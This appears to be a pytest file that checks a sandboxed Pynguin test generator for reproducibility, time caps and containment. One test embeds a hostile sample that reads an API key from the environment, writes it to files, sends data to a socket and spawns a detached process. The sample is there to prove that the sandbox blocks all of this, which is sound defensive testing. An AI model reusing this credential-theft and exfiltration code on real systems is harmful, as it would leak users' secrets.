"""The real generator (Pynguin in .venv-plus, made by scripts/setup.sh) inside the sandbox:
same seed, same tests; and code under test that attacks while Pynguin imports and calls it
cannot reach the host (files, network, secrets, processes), as in the sandbox's adversarial suite."""

from __future__ import annotations

import os
import socket
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from classforge_bench.pipeline.config import PlusConfig
from classforge_bench.pipeline.quality.plus.generate import GeneratorUnavailable, generate

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "sandbox"))
from sandbox_support import leftover_processes, make_config  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
PYTHON = REPO / ".venv-plus" / "bin" / "python"
needs_generator = pytest.mark.skipif(
    not PYTHON.exists(), reason="the plus generator is not set up (scripts/setup.sh makes .venv-plus)"
)

STACK = textwrap.dedent("""
    class Stack:
        def __init__(self):
            self.items = []

        def push(self, item: int) -> int:
            self.items.append(item)
            return len(self.items)

        def pop(self) -> int:
            if not self.items:
                return -1
            return self.items.pop()

        def size(self) -> int:
            return len(self.items)
""")


def _plus(tmp_path, **kw) -> PlusConfig:
    return PlusConfig(
        python=PYTHON, cache_dir=tmp_path / "cache", max_iterations=10, budget_s=60, wall_limit_s=240, **kw
    )


@needs_generator
def test_same_seed_same_tests(tmp_path):
    sandbox = make_config(wall_limit_s=240, memory_mb=4096, max_processes=64)
    first = generate(STACK, sandbox, _plus(tmp_path), item_id="stack")
    second = generate(STACK, sandbox, _plus(tmp_path), item_id="stack")
    assert first.ok and second.ok, first.detail + second.detail
    assert "def test_" in first.module and "under_test_.Stack" in first.module
    assert first.module == second.module


def test_a_missing_generator_is_a_clear_infrastructure_error(tmp_path):
    with pytest.raises(GeneratorUnavailable, match="not installed"):
        generate(STACK, make_config(), PlusConfig(python=tmp_path / "nowhere" / "python"))


@needs_generator
def test_code_under_test_cannot_escape_during_generation(tmp_path, monkeypatch):
    mark = f"cfplus{uuid.uuid4().hex[:8]}"
    targets = [f"/var/tmp/{mark}", f"/tmp/{mark}", f"{os.getcwd()}/{mark}"]
    secret = f"sk-{mark}"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    attack = textwrap.dedent(f'''
        import os, socket, subprocess

        def _attack():
            for path in {targets!r}:
                try:
                    open(path, "w").write(os.environ.get("OPENAI_API_KEY", "no secret"))
                except OSError:
                    pass
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"leak")
            except OSError:
                pass
            try:
                subprocess.Popen(["sleep", "300", "{mark}"], start_new_session=True)
            except OSError:
                pass

        _attack()
    ''')
    source = attack + STACK.replace("self.items.append(item)", "_attack()\n        self.items.append(item)")
    sandbox = make_config(wall_limit_s=240, memory_mb=4096, max_processes=64)
    result = generate(source, sandbox, _plus(tmp_path), item_id="attack")
    listener.setblocking(False)
    with pytest.raises(BlockingIOError):
        listener.accept()  # nothing connected from inside
    listener.close()
    for path in targets:
        assert not os.path.exists(path), f"{path} was written during generation"
    assert secret not in result.model_dump_json()
    time.sleep(0.2)
    assert leftover_processes(mark) == []


@needs_generator
def test_a_search_stopped_by_its_time_cap_says_so(tmp_path):
    # A branch no search reaches (a 40-digit product): only the time cap can end this search.
    hard = STACK.replace(
        "        self.items.append(item)\n",
        "        if len(str(item * 7919)) == 40:\n            return 0\n        self.items.append(item)\n",
    )
    sandbox = make_config(wall_limit_s=240, memory_mb=4096, max_processes=64)
    capped = generate(hard, sandbox, _plus(tmp_path).model_copy(update={"max_iterations": 1_000_000, "budget_s": 3}))
    assert capped.ok and capped.hit_time_cap and capped.coverage is not None and capped.coverage < 1.0
    easy = generate(STACK, sandbox, _plus(tmp_path))
    assert easy.ok and not easy.hit_time_cap and easy.coverage == 1.0


def test_the_default_generator_is_the_checkouts_venv_plus():
    # the import root moved one level down (classforge_bench/pipeline/...): the default interpreter
    # pointed at classforge_bench/.venv-plus, and `classforge strengthen` failed without plus.python
    from classforge_bench.pipeline.quality.plus.generate import DEFAULT_PYTHON

    checkout = Path(__file__).resolve().parents[2]
    assert checkout / ".venv-plus" / "bin" / "python" == DEFAULT_PYTHON


def _busy_loops(n: int) -> list:
    """n CPU-bound processes (the load), ended by the caller by their pid."""
    import subprocess

    return [subprocess.Popen([sys.executable, "-c", "while True:\n    pass\n"]) for _ in range(n)]


@needs_generator
def test_the_same_suite_at_load_one_and_beside_three_busy_processes(tmp_path):
    # Iteration caps and seeds decide the tests; the time cap (budget_s) is only a safety net far
    # above the run (a run stopped by it fails with plus-generator-time-cap, it is never used).
    from classforge_bench.pipeline.quality.plus.suite import make_plus_suite

    sandbox = make_config(wall_limit_s=600, memory_mb=4096, max_processes=64)
    plus = _plus(tmp_path).model_copy(update={"cache_dir": None, "budget_s": 600, "wall_limit_s": 900})
    kwargs = {"import_statement": [], "sandbox": sandbox, "plus": plus, "item_id": "stack"}
    quiet = make_plus_suite(STACK, "Stack", **kwargs)
    busy = _busy_loops(3)
    try:
        loaded = make_plus_suite(STACK, "Stack", **kwargs)
    finally:
        for proc in busy:
            proc.kill()
            proc.wait()
    assert quiet.failure is None and quiet.tests > 0, quiet.failure
    assert (loaded.test, loaded.test_classes, loaded.dropped) == (quiet.test, quiet.test_classes, quiet.dropped)
    assert loaded.failure == quiet.failure and not loaded.hit_time_cap
